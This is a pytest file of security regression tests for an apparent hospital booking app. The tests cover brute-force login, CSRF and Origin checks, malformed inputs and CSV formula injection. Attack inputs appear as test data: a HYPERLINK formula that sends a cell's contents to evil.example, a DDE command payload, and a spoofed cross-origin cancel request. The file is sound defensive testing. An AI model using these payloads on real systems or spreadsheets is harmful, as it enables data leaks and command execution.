"""The security test's findings (issue 16), each reproduced the way it was found: over HTTP
against the app, on the backend it was found on. Each test failed on the code the finding
was made against, or is kept as the guard against its return."""

from __future__ import annotations

import datetime as dt
import logging
import os
import pathlib
import stat
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import polars as pl
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from fairslot.bootstrap import Platform, bootstrap
from fairslot.clock import FixedClock
from fairslot.config import Settings
from fairslot.domain.accounts import Role
from fairslot.domain.schedule import Period
from fairslot.services import booking, catalog
from fairslot.services.export import PiiMode, export_records
from fairslot.storage.database import make_engine
from fairslot.web.app import create_app
from tests.conftest import PASSWORD, TEST_SECRET, World, api_book, make_settings

SRC = pathlib.Path(__file__).resolve().parents[2] / "src"
SQLITE_ONLY = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
HTML = {"accept": "text/html"}


@pytest.fixture
def platform(engine: sa.Engine, clock: FixedClock) -> Platform:
    settings = make_settings(database_url=str(engine.url), guard_device_cookie_secure=False,
                             trusted_proxies=["127.0.0.0/8"])
    return bootstrap(settings, clock=clock, engine=engine)


@pytest.fixture
def client(world: World) -> Iterator[TestClient]:
    with TestClient(create_app(world.platform), client=("127.0.0.1", 40000),
                    raise_server_exceptions=False) as test_client:
        yield test_client


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def problem(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    if code is not None:
        assert body["code"] == code, body
    return body


def page_log_in(client: TestClient, username: str, password: str = PASSWORD) -> Any:
    form = client.get("/login", headers=HTML)
    csrf = form.text.split('name="csrf" value="', 1)[1].split('"', 1)[0]
    return client.post("/login", data={"csrf": csrf, "username": username,
                                       "password": password},
                       headers=HTML, follow_redirects=False)


def csrf_of(page: str) -> str:
    return page.split('name="csrf" value="', 1)[1].split('"', 1)[0]


# -- log-in brute force ------------------------------------------------------------------


@SQLITE_ONLY
def test_wrong_passwords_from_rotating_addresses_never_reach_the_right_one(
        client: TestClient, world: World) -> None:
    # The finding: 65 wrong passwords in 13 minutes from rotating client addresses, then the
    # right one: 200. Now the account's failures bring a proof of work from the third on
    # and a wait from the sixth, wherever they come from.
    world.patient_account("victim")
    clock = world.platform.clock
    assert isinstance(clock, FixedClock)
    answers: dict[str, int] = {}
    for n in range(65):
        if n % 5 == 0:
            clock.advance(60)
        r = client.post("/api/v1/auth/login", json={"username": "victim",
                                                    "password": f"guess-{n}"},
                        headers={"X-Forwarded-For": f"198.18.{n}.7"})
        code = r.json()["code"]
        answers[code] = answers.get(code, 0) + 1
        client.cookies.clear()  # and a fresh browser each time
    assert answers.get("bad_credentials", 0) <= 6, answers  # 3 free, 3 after a challenge
    assert set(answers) <= {"bad_credentials", "challenge_required", "login_backoff",
                            "rate_limited"}
    r = client.post("/api/v1/auth/login", json={"username": "victim", "password": PASSWORD},
                    headers={"X-Forwarded-For": "198.18.99.7"})
    assert r.status_code in (403, 429), r.text


@SQLITE_ONLY
def test_the_per_account_log_in_limit_is_the_setting(engine: sa.Engine, clock: FixedClock,
                                                      ) -> None:
    # The finding: FAIRSLOT_LOGIN_ATTEMPTS_PER_MINUTE was ignored. Right passwords from
    # four addresses: the account's limit (3 a minute here) holds across them.
    from tests.conftest import build_world

    platform = bootstrap(make_settings(database_url=str(engine.url),
                                       trusted_proxies=["127.0.0.0/8"],
                                       login_attempts_per_minute=3), clock=clock,
                         engine=engine)
    world = build_world(platform)
    world.patient_account("mother")
    with TestClient(create_app(platform), client=("127.0.0.1", 40000)) as client:
        statuses = []
        for n in range(4):
            client.cookies.clear()
            r = client.post("/api/v1/auth/login",
                            json={"username": "mother", "password": PASSWORD},
                            headers={"X-Forwarded-For": f"198.18.{n}.7"})
            statuses.append(r.status_code)
        assert statuses == [200, 200, 200, 429]
        assert r.json()["code"] == "rate_limited" and r.json()["key"] == "account"
        clock.advance(61)
        client.cookies.clear()
        assert client.post("/api/v1/auth/login",
                           json={"username": "mother", "password": PASSWORD},
                           headers={"X-Forwarded-For": "198.18.9.7"}).status_code == 200


# -- action tokens -----------------------------------------------------------------------


@SQLITE_ONLY
def test_no_booking_token_for_a_session_not_yet_released(client: TestClient,
                                                         world: World) -> None:
    # The finding: 30 booking screens of an unreleased session in a burst, 30 x 200, and
    # the token passed the guard.
    _, [patient_id], token = world.patient_account("early.bird")
    today = world.platform.clock.now().astimezone(world.platform.settings.zone).date()
    [later] = world.platform.run(catalog.schedule_sessions, world.doctor_id,
                                 [today + dt.timedelta(days=10)], [Period.MORNING], 5, 5000,
                                 release_days_before=2)
    r = client.get(f"/api/v1/sessions/{later.id}/booking-screen", headers=bearer(token))
    problem(r, 409, "not_released")
    assert "action_token" not in r.text
    # Nor on the page: the confirmation is an error page, without a form to post.
    page_log_in(client, "early.bird")
    page = client.get(f"/sessions/{later.id}/confirm", params={"patient_id": patient_id},
                      headers=HTML)
    assert page.status_code == 409 and 'name="action_token"' not in page.text


@SQLITE_ONLY
def test_booking_screens_are_rate_limited(client: TestClient, world: World) -> None:
    _, _, token = world.patient_account("collector")
    session_id = world.session_ids[0]
    statuses = [client.get(f"/api/v1/sessions/{session_id}/booking-screen",
                           headers=bearer(token)).status_code for _ in range(30)]
    assert statuses.count(200) == 10 and statuses[10:] == [429] * 20


@SQLITE_ONLY
def test_a_booking_token_is_bound_to_its_session(client: TestClient, world: World) -> None:
    _, [patient_id], token = world.patient_account("switcher")
    first, second = world.session_ids
    screen = client.get(f"/api/v1/sessions/{first}/booking-screen", headers=bearer(token))
    world.platform.clock.advance(3)  # type: ignore[attr-defined]
    r = client.post("/api/v1/bookings", json={"session_id": second, "patient_id": patient_id},
                    headers={**bearer(token), screen.json()["token_header"]:
                             screen.json()["action_token"]})
    problem(r, 403, "token_invalid")


@SQLITE_ONLY
def test_a_paid_booking_gets_no_pay_token_and_a_cancelled_one_no_screen(
        client: TestClient, world: World) -> None:
    from tests.conftest import api_cancel, api_pay

    _, [patient_id], token = world.patient_account("payer")
    clock = world.platform.clock
    assert isinstance(clock, FixedClock)
    made = api_book(client, token, world.session_ids[0], patient_id, clock)
    booking_id = made.json()["id"]
    assert api_pay(client, token, booking_id, "alipay:payer@example.com", clock).status_code \
        == 200
    screen = client.get(f"/api/v1/bookings/{booking_id}/payment-screen", headers=bearer(token))
    assert screen.json()["action_token"] is None and screen.json()["cancel_token"]
    assert api_cancel(client, token, booking_id, clock).status_code == 200
    problem(client.get(f"/api/v1/bookings/{booking_id}/payment-screen",
                       headers=bearer(token)), 409, "booking_settled")


# -- cookies on the API, CSRF and Origin -------------------------------------------------


@SQLITE_ONLY
def test_the_api_refuses_the_pages_cookie_and_cancel_needs_a_token(
        client: TestClient, world: World) -> None:
    # The finding: POST /api/v1/bookings/{id}/cancel with the fs_session cookie, an
    # Origin of http://evil.example and a form body: 200.
    _, [patient_id], token = world.patient_account("cookie.jar")
    clock = world.platform.clock
    assert isinstance(clock, FixedClock)
    booking_id = api_book(client, token, world.session_ids[0], patient_id, clock).json()["id"]
    assert page_log_in(client, "cookie.jar").status_code == 303
    assert client.cookies.get("fs_session")
    r = client.post(f"/api/v1/bookings/{booking_id}/cancel", data={"x": "1"},
                    headers={"Origin": "http://evil.example"})
    problem(r, 401, "unauthenticated")
    r = client.post(f"/api/v1/bookings/{booking_id}/cancel", headers=bearer(token))
    problem(r, 403, "token_missing")
    view = world.platform.run(booking.get_booking, world.staff[Role.ADMIN], booking_id)
    assert view.booking.active


@SQLITE_ONLY
def test_a_form_posted_from_another_origin_is_refused_even_with_its_csrf_token(
        client: TestClient, world: World) -> None:
    world.patient_account("origin.check", patients=0)
    assert page_log_in(client, "origin.check").status_code == 303
    person = world.residents.pop()
    me = client.get("/me", headers=HTML).text
    data = {"csrf": csrf_of(me), "id_number": person.id_number, "name": person.name}
    r = client.post("/me/patients", data=data, follow_redirects=False,
                    headers={**HTML, "Origin": "http://evil.example"})
    assert r.status_code == 403 and "表单已失效" in r.text
    r = client.post("/me/patients", data=data, follow_redirects=False,
                    headers={**HTML, "Origin": "http://testserver"})
    assert r.status_code == 303


# -- inputs that gave 500 ----------------------------------------------------------------


def open_round(world: World) -> int:
    """A draw doctor's session five days out, its round's window open now."""
    from fairslot.domain.schedule import ReleasePolicy
    from fairslot.services import release

    clock = world.platform.clock
    assert isinstance(clock, FixedClock)
    doctor = world.platform.run(catalog.create_doctor, world.department_id, "周正", "主任医师",
                                "心律失常", release_policy=ReleasePolicy.DRAW, hot=True)
    today = clock.now().astimezone(world.platform.settings.zone).date()
    [session] = world.platform.run(catalog.schedule_sessions, doctor.id or 0,
                                   [today + dt.timedelta(days=5)], [Period.MORNING], 10,
                                   30000, release_days_before=1)
    clock.set(session.release_at - dt.timedelta(hours=1))
    world.platform.run_job(release.open_due_rounds)
    [opened] = world.platform.run(release.open_rounds)
    return opened.round.id or 0


PAGE_IDS = ["/doctors/{n}", "/departments/{n}", "/sessions/{n}/book",
            "/sessions/{n}/confirm?patient_id=1", "/rounds/{n}/enter"]
POSTS = ["/sessions/{n}/book", "/rounds/{n}/enter", "/bookings/{n}/pay",
         "/bookings/{n}/cancel"]


def test_huge_ids_in_page_paths_are_no_page(client: TestClient, world: World) -> None:
    # The finding: /doctors/99999999999999999999 on 7 page routes (SQLite) and
    # /doctors/2147483648 (PostgreSQL) gave 500.
    _, _, _ = world.patient_account("big.numbers")
    assert page_log_in(client, "big.numbers").status_code == 303
    csrf = csrf_of(client.get("/me", headers=HTML).text)
    for n in ("99999999999999999999", "2147483648", "-1", "0"):
        for path in PAGE_IDS:
            r = client.get(path.format(n=n), headers=HTML)
            assert r.status_code == 404, (path, n, r.status_code)
            assert r.headers["content-type"].startswith("text/html")
            r = client.get(path.format(n=n))
            problem(r, 422)
        for path in POSTS:
            r = client.post(path.format(n=n), data={"csrf": csrf}, headers=HTML)
            assert r.status_code == 404, (path, n, r.status_code)


def test_a_nul_byte_in_a_user_name_is_a_wrong_log_in_and_logs_no_parameters(
        client: TestClient, world: World, caplog: pytest.LogCaptureFixture) -> None:
    # The finding (PostgreSQL): a NUL byte in the user name gave 500, and the error log
    # carried the statement's parameters.
    caplog.set_level(logging.DEBUG)
    r = client.post("/api/v1/auth/login", json={"username": "mo\x00ther",
                                                "password": "whatever long"})
    problem(r, 401, "bad_credentials")
    form = client.get("/login", headers=HTML)
    r = client.post("/login", data={"csrf": csrf_of(form.text), "username": "mo\x00ther",
                                    "password": "whatever long"}, headers=HTML)
    assert r.status_code == 401
    assert "mo\x00ther" not in caplog.text and "parameters" not in caplog.text


@SQLITE_ONLY
def test_unicode_digits_in_numeric_form_fields_are_invalid_input(
        client: TestClient, world: World) -> None:
    # The finding: "²" as a session number on /rounds/{id}/enter and on the desk's forms.
    round_id = open_round(world)
    _, [patient_id], _ = world.patient_account("superscript")
    assert page_log_in(client, "superscript").status_code == 303
    page = client.get(f"/rounds/{round_id}/enter", headers=HTML)
    assert page.status_code == 200, page.text
    for value in ("²", "٣", "99999999999", "2147483648"):
        r = client.post(f"/rounds/{round_id}/enter", headers=HTML,
                        data={"csrf": csrf_of(page.text), "patient_id": str(patient_id),
                              "choice1": value, "action_token": "x"})
        assert r.status_code in (403, 422), (value, r.status_code)
    client.cookies.clear()
    assert page_log_in(client, "staff-registration").status_code == 303
    desk = client.get("/desk", headers=HTML)
    for action, field in (("/desk/check-in", "booking_id"), ("/desk/book", "session_id"),
                          ("/desk/pay", "booking_id")):
        for value in ("²", "٣", "99999999999"):
            r = client.post(action, headers=HTML, data={
                "csrf": csrf_of(desk.text), field: value, "id_number": "x", "name": "y",
                "payer_account": "alipay:a@example.com"})
            assert r.status_code == 422, (action, value, r.status_code)


@pytest.mark.parametrize(("day", "status"), [
    # A real date outside the hospital's calendar is refused (422); text that is no date
    # at all is a 400 page (docs/pages.md).
    ("9999-12-31", 422), ("0001-01-01", 422), ("1900-01-01", 422), ("2026-02-30", 400),
    ("garbage", 400), ("99999-01-01", 400)])
def test_the_operators_day_refuses_dates_out_of_range(client: TestClient, world: World,
                                                      day: str, status: int) -> None:
    assert page_log_in(client, "staff-operator").status_code == 303
    r = client.get("/operator", params={"date": day}, headers=HTML)
    assert r.status_code == status, (day, r.status_code)
    assert r.headers["content-type"].startswith("text/html")


@pytest.mark.parametrize("day", ["0001-01-01", "1900-01-01", "9999-12-31"])
def test_sessions_cannot_be_scheduled_in_year_1_1900_or_9999(client: TestClient,
                                                            world: World, day: str) -> None:
    r = client.post("/api/v1/admin/sessions", headers=bearer(world.token(Role.ADMIN)), json={
        "doctor_id": world.doctor_id, "dates": [day], "periods": ["morning"], "capacity": 3,
        "fee_cents": 100})
    problem(r, 422)


@SQLITE_ONLY
@pytest.mark.parametrize("start", ["9999-12-20", "0001-01-01", "1900-01-01"])
def test_listing_sessions_far_in_time_is_invalid_input(client: TestClient, world: World,
                                                       start: str) -> None:
    problem(client.get(f"/api/v1/doctors/{world.doctor_id}/sessions",
                       params={"start": start}), 422)


# -- passwords ---------------------------------------------------------------------------


@SQLITE_ONLY
@pytest.mark.parametrize("password", ["12345678", "newpatient2026", "        ",
                                      "password1", "qwertyuiop", "13812345678"])
def test_weak_passwords_are_refused(client: TestClient, world: World, password: str) -> None:
    r = client.post("/api/v1/auth/register", json={
        "username": "newpatient", "password": password, "phone": "13812345678"})
    problem(r, 422, "weak_password")


@SQLITE_ONLY
def test_a_strong_password_is_accepted(client: TestClient, world: World) -> None:
    r = client.post("/api/v1/auth/register", json={
        "username": "newpatient", "password": "violet kettle marches", "phone": "13812345678"})
    assert r.status_code == 201, r.text


# -- who reads a booking -----------------------------------------------------------------


@SQLITE_ONLY
def test_investigators_and_operators_read_no_booking(client: TestClient,
                                                     world: World) -> None:
    _, [patient_id], token = world.patient_account("private")
    clock = world.platform.clock
    assert isinstance(clock, FixedClock)
    booking_id = api_book(client, token, world.session_ids[0], patient_id, clock).json()["id"]
    for role in (Role.INVESTIGATOR, Role.OPERATOR):
        r = client.get(f"/api/v1/bookings/{booking_id}", headers=bearer(world.token(role)))
        problem(r, 404, "booking_not_found")
    for role in (Role.REGISTRATION, Role.ADMIN):
        r = client.get(f"/api/v1/bookings/{booking_id}", headers=bearer(world.token(role)))
        assert r.status_code == 200


# -- CSV formula injection, file modes ---------------------------------------------------


@SQLITE_ONLY
def test_a_formula_in_a_user_agent_is_written_as_text_to_access_csv(
        client: TestClient, world: World, tmp_path: pathlib.Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    client.get("/api/v1/hospitals", headers={"User-Agent": formula})
    client.get("/api/v1/hospitals", headers={"User-Agent": "+cmd|' /C calc'!A0"})
    client.app.state.access_log.flush()  # type: ignore[attr-defined]
    out = tmp_path / "export"
    world.platform.run(export_records, out, since=None, until=None, pii=PiiMode.CLEAR)
    text = (out / "access.csv").read_text()
    agents = pl.read_csv(out / "access.csv", infer_schema=False)["user_agent"].to_list()
    assert "'" + formula in agents and "'+cmd|' /C calc'!A0" in agents
    assert "\n=" not in text and ",=" not in text and ",+cmd" not in text
    for name in ("bookings.csv", "payments.csv", "access.csv"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600
    # A phone number keeps its plus sign.
    bookings = pl.read_csv(out / "bookings.csv", infer_schema=False)
    assert all(p.startswith("+86") for p in bookings["patient_phone"].drop_nulls())


def test_cells_that_look_like_formulas_are_prefixed_and_numbers_are_kept(
        tmp_path: pathlib.Path) -> None:
    from fairslot.csvsafe import neutralise

    frame = pl.DataFrame({"entity_id": ["=1+1", "@SUM(A1)", "-2+3", "+8613800138000",
                                        "-3.5", "acct-1", "\tx"], "score": [1.0] * 7})
    assert neutralise(frame)["entity_id"].to_list() == [
        "'=1+1", "'@SUM(A1)", "'-2+3", "+8613800138000", "-3.5", "acct-1", "'\tx"]
    assert neutralise(frame)["score"].to_list() == [1.0] * 7


def test_the_investigation_writes_private_files_with_formulas_as_text(
        tmp_path: pathlib.Path) -> None:
    # The findings: formula-like ids passed into suspects.csv; --pii clear wrote
    # suspects.csv and report.html 0644 with clear identity numbers.
    from typer.testing import CliRunner

    from tests.investigation.test_cli import _app

    runner = CliRunner()
    records = tmp_path / "records"
    made = runner.invoke(_app(), ["records", "synth", str(records), "--scenario", "seeds",
                                  "--seed", "3", "--scale", "0.1"])
    assert made.exit_code == 0, made.output
    bookings = pl.read_csv(records / "bookings.csv", infer_schema=False)
    bookings.with_columns(("=HYPERLINK(" + pl.col("account_id") + ")").alias("account_id")
                          ).write_csv(records / "bookings.csv")
    out = tmp_path / "out"
    ran = runner.invoke(_app(), ["investigate", str(records), "--out", str(out)])
    assert ran.exit_code == 0, ran.output
    for name in ("suspects.csv", "rings.csv", "report.html"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600, name
    suspects = pl.read_csv(out / "suspects.csv", infer_schema=False)
    accounts = suspects.filter(pl.col("entity_type") == "account")["entity_id"].to_list()
    assert accounts and all(a.startswith("'=HYPERLINK(") for a in accounts)
    rings = (out / "rings.csv").read_text()
    assert "=HYPERLINK" in rings
    for cell in (c for line in rings.splitlines() for c in line.split(",")):
        assert not cell.lstrip('"').startswith("=")


def test_a_new_sqlite_database_is_readable_by_its_owner_only(tmp_path: pathlib.Path) -> None:
    path = tmp_path / "var" / "fairslot.db"
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as conn:
        conn.execute(sa.text("CREATE TABLE t (x INTEGER)"))
    engine.dispose()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)  # one made by an older version is tightened
    make_engine(f"sqlite:///{path}").dispose()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# -- the secret key ----------------------------------------------------------------------


@pytest.mark.parametrize(("key", "says"), [
    ("short", "shorter than 32"), ("a" * 32, "guessable"), ("changeme" * 4, "guessable")])
def test_a_bad_secret_key_gives_one_line_and_no_traceback(tmp_path: pathlib.Path, key: str,
                                                          says: str) -> None:
    run = subprocess.run([sys.executable, "-m", "fairslot.cli", "serve"], cwd=tmp_path,
                         env={**os.environ, "PYTHONPATH": str(SRC), "FAIRSLOT_SECRET_KEY": key},
                         capture_output=True, text=True, timeout=60)
    assert run.returncode != 0
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and says in lines[0] and "Traceback" not in run.stderr, run.stderr


def test_a_generated_secret_and_the_tests_secret_are_accepted() -> None:
    from fairslot.crypto import new_secret

    for key in (new_secret(), TEST_SECRET):
        Settings(secret_key=key).secret_bytes()
    with pytest.raises(RuntimeError, match="guessable"):
        Settings(secret_key="x" * 40).secret_bytes()


@SQLITE_ONLY
def test_non_ascii_credentials_are_refused_not_a_server_error(client: TestClient,
                                                              world: World) -> None:
    # Found by the page walk: compare_digest raises on str with non-ASCII characters, so a
    # "²" CSRF field, token or device id gave 500.
    _, [patient_id], token = world.patient_account("latin")
    latin = "é".encode("latin-1")  # HTTP header bytes, as a client may send them
    problem(client.get("/api/v1/me", headers={b"Authorization": b"Bearer 1." + latin +
                                              b"." + latin}), 401)
    r = client.get("/api/v1/hospitals", headers={b"X-Device-Id": latin + b"." + latin})
    assert r.status_code == 200
    r = client.post("/api/v1/bookings", json={"session_id": world.session_ids[0],
                                              "patient_id": patient_id},
                    headers={"Authorization": f"Bearer {token}",
                             "X-Fairslot-Action-Token": "v1.1.x.y"})
    problem(r, 403, "token_invalid")
    client.get("/login", headers=HTML)
    r = client.post("/login", data={"csrf": "²", "username": "latin", "password": PASSWORD},
                    headers=HTML)
    assert r.status_code == 403
